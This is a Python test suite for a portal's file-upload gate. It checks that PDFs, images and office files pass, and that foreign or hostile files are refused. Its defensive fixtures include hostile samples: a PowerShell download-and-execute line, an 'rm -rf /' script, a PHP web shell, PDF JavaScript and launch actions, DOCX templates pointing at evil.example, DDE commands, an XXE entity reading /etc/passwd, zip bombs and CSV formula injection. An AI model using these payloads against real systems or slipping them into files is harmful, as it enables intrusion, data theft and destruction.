"""The gate: each kind passes, by its content; nothing that hides, runs, goes elsewhere or swells does."""

import io
import re
import resource
import struct
import time
import zlib
from itertools import count

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.exchange import upload_child, uploads
from portal.exchange.foreign import Refused as RefusedByChild
from portal.exchange.uploads import ALL, KINDS, MOST_BYTES, PROOFS, REFUSALS
from portal.rules import Refused
from tests import files
from tests.exchange.people import rezipped, zipped
from tests.exchange.test_workbooks import HOSTILE as HOSTILE_WORKBOOKS
from tests.exchange.test_workbooks import lying
from tests.files import docx, odt, pdf

SAMPLES = files.samples()
EXTENSIONS = [(extension, kind) for kind, found in KINDS.items() for extension in found.extensions]


def through(content, kind):
    """What is kept of a file."""
    with uploads.checked(io.BytesIO(content), kind) as file:
        file.seek(0)
        return file.read()


def refusal(content, kind):
    with pytest.raises(Refused) as refused:
        through(content, kind)
    return str(refused.value)


def code(content, kind):
    """The word of the child for a file that it refuses, without starting it."""
    with pytest.raises(RefusedByChild) as refused:
        upload_child.CHECKS[kind](io.BytesIO(content), kind)
    return str(refused.value)


# What may come


@pytest.mark.parametrize("kind", ALL)
def test_each_kind_passes_as_it_is(kind):
    kept = through(SAMPLES[kind], kind)
    assert kept == SAMPLES[kind] or kind in ("png", "jpeg")


def test_the_ten_extensions_are_known_by_name():
    assert [uploads.kind_of(f"Pièce{extension}", ALL) for extension, _ in EXTENSIONS] == [
        kind for _, kind in EXTENSIONS
    ]
    assert len(EXTENSIONS) == 10
    assert uploads.kind_of(" SCAN.PDF ", PROOFS) == "pdf"


@pytest.mark.parametrize(
    "name", ["x.exe", "x.pdf.exe", "x", ".pdf", "x.svg", "x.html", "x.zip", "x.xlsm", "x.docm", "", "x.pdf\u202e"]
)
def test_another_extension_is_refused(name):
    with pytest.raises(Refused, match="PDF, PNG ou JPEG"):
        uploads.kind_of(name, PROOFS)


def test_a_workbook_is_no_proof_and_a_telephone_photo_says_what_to_do():
    with pytest.raises(Refused, match="Envoyez un fichier PDF, PNG ou JPEG"):
        uploads.kind_of("x.xlsx", PROOFS)
    with pytest.raises(Refused, match="photo"):
        uploads.kind_of("IMG_0001.HEIC", PROOFS)


def test_a_kind_under_the_name_of_another_is_refused(figure):
    """Every kind under each extension that is not its own."""
    mismatches = [(extension, kind, sample) for extension, kind in EXTENSIONS for sample in ALL if sample != kind]
    for extension, kind, sample in mismatches:
        assert code(SAMPLES[sample], kind) in REFUSALS, (extension, sample)
    assert len(mismatches) == 80
    figure("FIL-2", len(mismatches), "kinds under the name of another refused")


FOREIGN = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html after text": b"GIF89a/*<html><script>*/=1;alert(1)//</script>",
    "xml": b'<?xml version="1.0"?><x/>',
    "hta": b"\r\n  <HTA:APPLICATION><script language='VBScript'>x</script>",
    "exe": b"MZ\x90\0\x03\0\0\0" + b"\0" * 200,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "zip": zipped({"x.txt": "x"}),
    "jar": zipped({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}),
    "xlsm": rezipped(SAMPLES["xlsx"], **{"xl/vbaProject.bin": b"x"}),
    "docm": docx(word__vbaProject_bin="x").replace(b"vbaProject_bin", b"vbaProject.bin"),
    "ods": zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": "<m/>"}),
    "odp": zipped({"mimetype": "application/vnd.oasis.opendocument.presentation", "META-INF/manifest.xml": "<m/>"}),
    "epub": zipped({"mimetype": "application/epub+zip", "META-INF/manifest.xml": "<m/>"}),
    "msi": files.compound("Root Entry", "SummaryInformation"),
    "ppt": files.compound("Root Entry", "PowerPoint Document"),
    "msg": files.compound("Root Entry", "__substg1.0_0037001F"),
    "eml": b"From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nBonjour, voici.\r\n",
    "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n<html>\r\n",
    "lnk": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 100,
    "js": b"var shell = new ActiveXObject('WScript.Shell');\nshell.Run('calc');\n",
    "vbs": b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n',
    "bat": b"@echo off\r\nstart calc.exe & del %0\r\n",
    "ps1": b"$x = (New-Object Net.WebClient).DownloadString('http://x')\nIEX $x\n",
    "sh": b"#!/bin/sh\nrm -rf / ; true\n",
    "py": b"import os\n\n\ndef main(a, b):\n    os.system('x')\n",
    "php": b"<?php system($_GET['x']); ?>",
    "json": b'{"a": 1, "b": [1, 2]}',
    "ics": b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n",
    "vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nN:Barbaud;Philippe;;;\r\nEND:VCARD\r\n",
    "rtf": b"{\\rtf1\\ansi{\\object\\objocx x}}",
    "gif": b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\0\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "webp": b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0",
    "bmp": b"BM\x1e\0\0\0\0\0\0\0\x1a\0\0\0\x0c\0\0\0\x01\0\x01\0\x01\0\x18\0\0\0\xff\0",
    "tiff": b"II*\0\x08\0\0\0\0\0",
    "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 20,
    "7z": b"7z\xbc\xaf'\x1c\0\x04" + b"\0" * 20,
    "gz": b"\x1f\x8b\x08\0" + b"\0" * 20,
    "mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 20,
    "postscript": b"%!PS-Adobe-3.0\n(x) run\n",
    "nothing but blanks": b" \r\n" * 10,
}


@pytest.mark.parametrize("foreign", FOREIGN)
def test_a_foreign_file_passes_under_no_name(foreign, figure):
    for kind in ALL:
        assert code(FOREIGN[foreign], kind) in REFUSALS, kind
    figure("FIL-2", len(ALL), "foreign files refused")


def test_the_sentence_names_the_format_that_it_is_not():
    assert "au format PDF, malgré son nom" in refusal(b"MZ" * 50, "pdf")
    assert refusal(FOREIGN["html"], "csv") == REFUSALS["page"]


# Size


def test_four_megabytes_to_the_byte_pass_and_one_more_does_not():
    content = files.heavy_pdf(MOST_BYTES)
    uploads.check_size(io.BytesIO(content))
    assert through(content, "pdf") == content
    with pytest.raises(Refused, match="4\u00a0Mo"):
        uploads.check_size(io.BytesIO(content + b"\n"))
    with pytest.raises(Refused, match="vide"):
        uploads.check_size(io.BytesIO())


# Images


def png_of(width, height):
    """A small file that says it is large."""

    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def jpeg_of(width, height):
    small = files.noise()
    at = small.index(b"\xff\xc0")
    return small[: at + 5] + struct.pack(">HH", height, width) + small[at + 9 :]


@pytest.mark.parametrize(
    ("content", "kind", "said"),
    [
        (png_of(60_000, 60_000), "png", "pixels"),
        (png_of(8_000, 5_001), "png", "pixels"),
        (jpeg_of(65_000, 65_000), "jpeg", "pixels"),
        (png_of(40, 30), "png", "damaged"),
        (files.image()[:60], "png", "damaged"),
        (files.noise()[:300], "jpeg", "damaged"),
        (b"\x89PNG\r\n\x1a\n", "png", "damaged"),
        (b"\xff\xd8\xff", "jpeg", "damaged"),
        (files.noise(), "png", "other"),
        (files.image(), "jpeg", "other"),
    ],
)
def test_an_image_that_is_too_large_or_none_is_refused(content, kind, said):
    assert code(content, kind) == said


def test_forty_million_points_pass_in_the_memory_and_the_time_of_the_child():
    content = files.image(size=(8_000, 5_000))
    kept = through(content, "png")
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (8_000, 5_000)


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_nothing_is_left_of_where_and_by_whom_a_photo_was_taken(kind):
    tags = files.exif().tobytes()
    comment = {"comment": b"Philippe Barbaud"} if kind == "jpeg" else {}
    content = files.noise(kind.upper(), exif=tags, icc_profile=b"Canon EOS" * 20, **comment)
    assert b"Canon" in content and b"Barbaud" in content
    kept = through(content + b"<script>alert(1)</script>PK\x03\x04", kind)
    for trace in (
        b"Canon",
        b"Barbaud",
        b"Exif",
        b"eXIf",
        b"ICC_PROFILE",
        b"iCCP",
        b"<script",
        b"PK\x03\x04",
        b"xpacket",
    ):
        assert trace not in kept, trace
    with Image.open(io.BytesIO(kept)) as image:
        assert not image.getexif() and image.size == (40, 60), "turned as the camera was held"


def test_a_text_in_a_png_does_not_stay():
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", "Philippe Barbaud")
    notes.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS</x:xmpmeta>")
    kept = through(files.image(pnginfo=notes), "png")
    assert b"Barbaud" not in kept and b"xmp" not in kept


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_png_keeps_its_look(mode):
    content = files.image(mode=mode)
    with Image.open(io.BytesIO(through(content, "png"))) as kept, Image.open(io.BytesIO(content)) as was:
        assert kept.size == was.size and kept.convert("RGBA").tobytes() == was.convert("RGBA").tobytes()


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_every_jpeg_is_read(mode):
    with Image.open(io.BytesIO(through(files.image("JPEG", mode=mode), "jpeg"))) as kept:
        assert kept.mode in ("L", "RGB")


def test_a_photo_loses_nothing_that_is_seen_and_weighs_about_the_same():
    content = files.noise(size=(900, 700), quality=83)
    kept = through(content, "jpeg")
    assert abs(len(kept) - len(content)) < len(content) / 20


# PDF


def script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def action(name, **others):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{name}"), **others)


def of_root(key, value):
    return lambda made: made.Root.__setitem__(f"/{key}", value() if callable(value) else value)


def annotation(**entries):
    def change(made):
        made.pages[0].Annots = made.make_indirect(
            pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, **entries)])
        )

    return change


def attached(made):
    made.attachments["facture.exe"] = pikepdf.AttachedFileSpec(made, b"MZ", filename="facture.exe")


def within_object_streams():
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.OpenAction = made.make_indirect(script())
    out = io.BytesIO()
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in out.getvalue()
    return out.getvalue()


ACTIVE_PDFS = {
    "script on opening": pdf(of_root("OpenAction", script)),
    "script under a name of hexadecimal": pdf(of_root("OpenAction", script)).replace(b"/JavaScript", b"/J#61vaScript"),
    "script of a page": pdf(lambda made: made.pages[0].__setattr__("AA", pikepdf.Dictionary(O=script()))),
    "script of the document": pdf(
        of_root(
            "Names", lambda: pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", script()])))
        )
    ),
    "script after a link": pdf(
        of_root("OpenAction", lambda: action("URI", URI="http://x", Next=pikepdf.Array([script()])))
    ),
    "script in an object stream": within_object_streams(),
    "program to launch": pdf(annotation(Subtype=pikepdf.Name.Link, A=action("Launch", F="calc.exe"))),
    "form to send": pdf(annotation(Subtype=pikepdf.Name.Link, A=action("SubmitForm", F="http://x"))),
    "data to import": pdf(annotation(Subtype=pikepdf.Name.Link, A=action("ImportData", F="x.fdf"))),
    "another document": pdf(annotation(Subtype=pikepdf.Name.Link, A=action("GoToR", F="\\\\server\\share"))),
    "embedded document": pdf(annotation(Subtype=pikepdf.Name.Link, A=action("GoToE"))),
    "attached file": pdf(attached),
    "attached note": pdf(annotation(Subtype=pikepdf.Name.FileAttachment)),
    "flash": pdf(annotation(Subtype=pikepdf.Name.RichMedia)),
    "film": pdf(annotation(Subtype=pikepdf.Name.Screen, A=action("Rendition"))),
    "form of XFA": pdf(of_root("AcroForm", lambda: pikepdf.Dictionary(XFA=pikepdf.Array([])))),
}


@pytest.mark.parametrize("name", ACTIVE_PDFS)
def test_a_pdf_that_acts_is_refused(name):
    assert code(ACTIVE_PDFS[name], "pdf") == "active"


def encrypted(**passwords):
    made = pikepdf.new()
    made.add_blank_page()
    out = io.BytesIO()
    made.save(out, encryption=pikepdf.Encryption(**passwords))
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (encrypted(owner="x", user="y"), "locked"),
        (pdf()[:200], "damaged"),
        (b"%PDF-1.7\n", "damaged"),
        (b"<html><script>alert(1)</script>" + pdf(), "other"),
        (b"%PDF-1.7\n" + b"\xff" * 5_000, "damaged"),
    ],
)
def test_a_pdf_that_does_not_open_is_refused(content, said):
    assert code(content, "pdf") == said


@pytest.mark.parametrize(
    "content",
    [
        encrypted(owner="x", user=""),
        pdf(annotation(Subtype=pikepdf.Name.Link, A=action("URI", URI="https://www.ameli.fr"))),
        pdf(of_root("OpenAction", lambda: pikepdf.Array([]))),
        b"\xef\xbb\xbf" + pdf(),
    ],
    ids=["protected against changes", "link", "opens on a page", "mark"],
)
def test_a_pdf_that_only_shows_passes(content):
    assert through(content, "pdf") == content


# Office


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'


def image_of(target):
    return f'<draw:frame><draw:image xlink:href="{target}"/></draw:frame>'


DTD = '<?xml version="1.0" encoding="{}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
HOSTILE = {
    "docx: template elsewhere": (
        "docx",
        docx(links=[("attachedTemplate", "https://evil.example/x.dotm", True)]),
        "links",
    ),
    "docx: template on a share": ("docx", docx(links=[("attachedTemplate", "file://server/x.dotm", True)]), "links"),
    "docx: image elsewhere": ("docx", docx(links=[("image", "https://evil.example/x.png", True)]), "links"),
    "docx: frame": ("docx", docx(links=[("frame", "https://evil.example/", True)]), "links"),
    "docx: link to a share": ("docx", docx(links=[("hyperlink", "\\\\server\\x", True)]), "links"),
    "docx: link to a file": ("docx", docx(links=[("hyperlink", "file:///c:/x.exe", True)]), "links"),
    "docx: link to a script": ("docx", docx(links=[("hyperlink", "javascript:alert(1)", True)]), "links"),
    "docx: object": ("docx", docx(links=[("oleObject", "embeddings/x.bin", False)]), "embedded"),
    "docx: object elsewhere in the zip": ("docx", docx(links=[("oleObject", "media/x.png", False)]), "embedded"),
    "docx: page within": ("docx", docx(links=[("aFChunk", "x.mht", False)]), "embedded"),
    "docx: control": ("docx", docx(links=[("control", "activeX/x.xml", False)]), "embedded"),
    "docx: macros": ("docx", FOREIGN["docm"], "macros"),
    "docx: macros under another name": ("docx", docx(links=[("vbaProject", "x.bin", False)]), "macros"),
    "docx: command": ("docx", docx(field(" DDEAUTO c:\\\\x cmd")), "links"),
    "docx: command in pieces": ("docx", docx(field("DDE", "AUTO", " c:\\\\x")), "links"),
    "docx: command in one piece": ("docx", docx('<w:fldSimple w:instr="DDE x y"/>'), "links"),
    "docx: text elsewhere": ("docx", docx(field('INCLUDETEXT "http://evil.example"')), "links"),
    "docx: dtd": ("docx", docx(word__styles=DTD.format("UTF-8")), "entities"),
    "docx: dtd in utf-16": ("docx", docx(word__styles=DTD.format("UTF-16").encode("utf-16")), "entities"),
    "docx: bomb": ("docx", docx(word__media=b"0" * 105_000_000), "heavy"),
    "docx: lying bomb": ("docx", lying(docx(word__media=b"<x>" + b"0" * 50_000_000)), "heavy"),
    "docx: many members": ("docx", docx(**{f"x{number}": "" for number in range(1001)}), "heavy"),
    "docx: folder above": ("docx", docx(**{"..__..__x": "x"}), "damaged"),
    "docx: no end": ("docx", docx().replace(b"PK\x05\x06", b"PK\x05\x07"), "damaged"),
    "docx: not xml": ("docx", docx(body="<w:p>"), "damaged"),
    "docx: cut": ("docx", docx()[:-100], "damaged"),
    "xlsx: other workbook": (
        "xlsx",
        rezipped(
            SAMPLES["xlsx"],
            **{"xl/_rels/workbook.xml.rels": files.relationships(("externalLink", "externalLinks/1.xml", False))},
        ),
        "links",
    ),
    "xlsx: data elsewhere": (
        "xlsx",
        rezipped(
            SAMPLES["xlsx"], **{"xl/_rels/x.xml.rels": files.relationships(("connections", "connections.xml", False))}
        ),
        "links",
    ),
    "xlsx: object": ("xlsx", rezipped(SAMPLES["xlsx"], **{"xl/embeddings/x.bin": "x"}), "embedded"),
    "odt: image elsewhere": ("odt", odt(image_of("https://evil.example/x.png")), "links"),
    "odt: image on the disk": ("odt", odt(image_of("file:///etc/passwd")), "links"),
    "odt: file beside": ("odt", odt(image_of("../x.odt")), "links"),
    "odt: share": ("odt", odt(image_of("//server/x")), "links"),
    "odt: link to a script": ("odt", odt('<text:a xlink:href="vnd.sun.star.script:x"/>'), "links"),
    "odt: event": ("odt", odt('<script:event-listener script:language="ooo:script"/>'), "macros"),
    "odt: script": ("odt", odt('<text:script script:language="JavaScript">x</text:script>'), "macros"),
    "odt: macros": ("odt", odt(Basic__Standard__Module1="<x/>"), "macros"),
    "odt: command": ("odt", odt('<text:dde-connection-decl office:dde-application="cmd"/>'), "links"),
    "odt: object": (
        "odt",
        odt(
            manifest="<manifest:file-entry manifest:full-path='Object 1' "
            "manifest:media-type='application/vnd.sun.star.oleobject'/>"
        ),
        "embedded",
    ),
    "odt: password": (
        "odt",
        odt(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
        "locked",
    ),
    "doc: macros": ("doc", files.doc("Macros", "VBA", "_VBA_PROJECT"), "macros"),
    "doc: object": ("doc", files.doc("ObjectPool", "\x03ObjInfo"), "embedded"),
    "doc: package": ("doc", files.doc("\x01Ole10Native"), "embedded"),
    "doc: password": ("doc", files.doc(locked=True), "locked"),
    "doc: nothing in it": ("doc", files.compound("Root Entry", "WordDocument"), "damaged"),
    "xls: object": ("xls", SAMPLES["xls"] + files.compound("MBD0018D4E5")[512:1024], "embedded"),
    "xls: directory alone": ("xls", files.compound("Root Entry", "Workbook"), "damaged"),
    "csv: command": ("csv", b"Nom;x\r\n=cmd|'/c calc'!A0;1\r\n", "formulas"),
    "csv: command after a plus": ("csv", b"Nom;x\r\n+cmd|'/c calc'!A0;1\r\n", "formulas"),
    "csv: link": ("csv", b'Nom;x\r\n"=HYPERLINK(""http://x"")";1\r\n', "formulas"),
    "csv: quotes": ("csv", b'Nom;"x\r\n', "quotes"),
    "csv: nul": ("csv", b"Nom;\0\r\n", "other"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_document_is_refused(name):
    kind, content, said = HOSTILE[name]
    started = time.monotonic()
    assert code(content, kind) == said
    assert time.monotonic() - started < 3
    assert len(content) <= MOST_BYTES


@pytest.mark.parametrize("name", HOSTILE_WORKBOOKS)
def test_what_is_refused_for_an_import_does_not_pass_here_either(name):
    content, _ = HOSTILE_WORKBOOKS[name]
    for kind in ("xlsx", "xls", "csv"):
        assert code(content, kind) in REFUSALS


RIGHT = {
    "docx: links that one clicks": (
        "docx",
        docx(
            links=[("hyperlink", target, True) for target in ("https://www.ameli.fr", "mailto:x@example.com", "#haut")]
        ),
    ),
    "docx: its own template": ("docx", docx(links=[("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", True)])),
    "docx: a page number": ("docx", docx(field(" PAGE ") + '<w:fldSimple w:instr="DATE"/>')),
    "docx: picture": ("docx", docx(links=[("image", "media/1.png", False)], word__media__1=files.image())),
    "odt: picture and links": (
        "odt",
        odt(image_of("Pictures/1.png") + '<text:a xlink:href="https://www.ameli.fr"/>', Pictures__1=files.image()),
    ),
    "odt: its own template": (
        "odt",
        odt(meta='<meta:template xmlns:meta="x" xmlns:xlink="y" xlink:href="../modeles/x.ott"/>'),
    ),
    "csv: one column": ("csv", b"Matricule\r\nM0012\r\nM0013\r\n"),
    "csv: zeros kept by Excel": ("csv", b'Code;Nom\r\n"=""0012""";x\r\n'),
    "csv: telephone": ("csv", "Nom;Tél\r\nx;+33 (0)6 12 34 56 78\r\n".encode("cp1252")),
    "csv: title first": ("csv", b"Liste\r\n\r\n" + b"a;b;c\r\n" * 20),
    "csv: minus": ("csv", b"a;b\r\n-5;-3 (x)\r\n"),
}


@pytest.mark.parametrize("name", RIGHT)
def test_an_ordinary_document_passes(name):
    kind, content = RIGHT[name]
    assert through(content, kind) == content


# The child


@pytest.fixture
def as_child(monkeypatch, tmp_path):
    """What the child is, in place of what it is."""
    numbers = count()

    def put(source):
        script = tmp_path / f"{next(numbers)}.py"
        script.write_text(source)
        monkeypatch.setattr(uploads, "CHILD", script)

    return put


def test_what_ends_the_child_is_a_sentence_and_costs_the_portal_little(as_child):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for answer in (
        "import os; os.abort()",
        "print('[')",
        'print(\'{"refused": "?"}\')',
        "print('{\"length\": 10}'); print('x')",
        "print('x' * 100_000_000)",
        "print('{\"length\": -1}')",
    ):
        as_child(f"def main():\n    {answer}")
        assert refusal(b"x", "pdf") in (uploads.LOST, REFUSALS["heavy"])
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024


def test_a_child_that_takes_too_long_is_ended(monkeypatch):
    monkeypatch.setattr(uploads, "SECONDS", 0.05)
    assert refusal(files.image(size=(8_000, 5_000)), "png") == uploads.LOST


def test_the_child_may_write_no_file_and_take_so_much_memory(as_child, tmp_path):
    source = uploads.CHILD.read_text()
    for act, said in (
        ("None", None),
        ("bytes(600 * 1024 * 1024)", REFUSALS["heavy"]),
        (f"open({str(tmp_path / 'x')!r}, 'wb', 0).write(b'x' * 10)", uploads.LOST),
        ("[0 for _ in iter(int, 1)]", REFUSALS["heavy"]),
    ):
        as_child(source.replace("made = CHECKS[kind](", f"{act}; made = (lambda *a: b'')("))
        assert (refusal(b"x", "pdf") if said else through(b"x", "pdf")) in (said, b"x"), act


# Names

NAMES = {
    "../../x.pdf": "x.pdf",
    "C:\\Users\\x\\facture.pdf": "facture.pdf",
    "/etc/passwd.pdf": "passwd.pdf",
    "a\0b.pdf": "ab.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "a Set-Cookie x=1.pdf",
    "fac\u202efdp.exe.pdf": "facfdp.exe.pdf",
    "x" * 300 + ".pdf": "x" * 116 + ".pdf",
    "Avenant " + "é" * 300 + ".pdf": "Avenant " + "é" * 108 + ".pdf",
    "<img onerror=alert(1)>.pdf": "img onerror=alert(1).pdf",
    '"guillemets".pdf': "guillemets.pdf",
    ".pdf": "fichier.pdf",
    "\u200b\u200b.pdf": "fichier.pdf",
    "pdf.pdf": "pdf.pdf",
    "...": "fichier.pdf",
    "": "fichier.pdf",
    "e\u0301te\u0301.PDF": "été.pdf",
    "\u200bx\u2066.pdf": "x.pdf",
    "  a   b .pdf": "a b.pdf",
    "programme.exe": "programme.pdf",
    "photo\U0001f600.pdf": "photo\U0001f600.pdf",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_cleaned(name):
    assert uploads.clean_name(name, "pdf") == NAMES[name]


@settings(deadline=None)
@given(st.text(max_size=400))
def test_whatever_the_name_it_can_be_shown_and_saved(name):
    clean = uploads.clean_name(name, "jpeg")
    assert (
        re.fullmatch(r"[^/\\<>:\"|?*\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]{1,120}\.jpe?g", clean)
        and len(clean) <= 120
    )
    assert uploads.clean_name(clean, "jpeg") == clean
